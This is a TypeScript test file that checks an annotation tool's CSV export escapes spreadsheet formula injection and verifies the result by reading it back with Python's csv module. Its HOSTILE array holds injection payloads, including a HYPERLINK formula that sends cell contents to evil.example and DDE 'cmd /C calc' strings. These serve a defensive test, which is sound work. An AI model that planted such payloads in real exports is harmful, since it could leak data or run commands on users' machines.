/**
 * CSV injection (OWASP): a note, quote, label, annotator or attribute that a
 * spreadsheet would run as a formula reaches the CSV export as text. Read
 * back with Python's csv module, as a spreadsheet's importer splits cells.
 */
import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { csvChunks, csvField, type ExportDoc } from '@mbw/shared';

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"klick")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\'/C calc\'!A0', '\t=1+1', '\r=1+1', '=1,2\r\n"x"'];
const TEXT = '-5 Punkte für die Regierung, sagte er.';

function hostileDoc(): ExportDoc {
  return {
    id: '=A1',
    text: TEXT,
    meta: {},
    spans: HOSTILE.map((note, i) => ({
      id: `s${i}`,
      label: i === 0 ? '@label' : 'evaluative',
      start: 0,
      end: 9,
      quote: TEXT.slice(0, 9),
      annotator: i === 1 ? '+anna' : 'anna',
      attributes: {},
      note,
      status: 'submitted' as const,
    })),
    relations: [],
  } as unknown as ExportDoc;
}

describe('CSV formula injection', () => {
  it('prefixes a field starting with = + - @ tab or CR with a quote mark, and leaves others alone', () => {
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('-2')).toBe("'-2");
    expect(csvField('@x')).toBe("'@x");
    expect(csvField('+x')).toBe("'+x");
    expect(csvField('\tx')).toBe("'\tx");
    expect(csvField('\rx')).toBe(`"'\rx"`);
    expect(csvField('=a,b')).toBe(`"'=a,b"`);
    for (const v of ['plain', 'a=b', '12', '{"a":"=1"}', '', "'=already"]) expect(csvField(v).startsWith("'")).toBe(v.startsWith("'"));
  });

  it('no cell read back by Python’s csv module starts a formula; every value is the original after the quote mark', () => {
    const csv = [...csvChunks([hostileDoc()])].join('');
    const cells: string[][] = JSON.parse(
      execFileSync('python3', ['-c', 'import sys, csv, json; print(json.dumps(list(csv.reader(sys.stdin))))'], { input: csv, encoding: 'utf8' }),
    );
    const rows = cells.slice(1);
    expect(rows).toHaveLength(HOSTILE.length);
    const all = rows.flat();
    const formulas = all.filter((c) => /^[=+\-@\t\r]/.test(c));
    expect(formulas).toEqual([]);
    expect(rows.map((r) => r[8])).toEqual(HOSTILE.map((n) => `'${n}`));
    expect(rows[0]![0]).toBe("'=A1");
    expect(rows[0]![3]).toBe("'@label");
    expect(rows[1]![2]).toBe("'+anna");
    expect(rows[0]![6]).toBe(`'${TEXT.slice(0, 9)}`);
    console.log(`CSV injection: ${rows.length} rows, ${all.length} cells read by Python's csv module, ${all.filter((c) => c.startsWith("'")).length} escaped, 0 starting a formula`);
  });
});
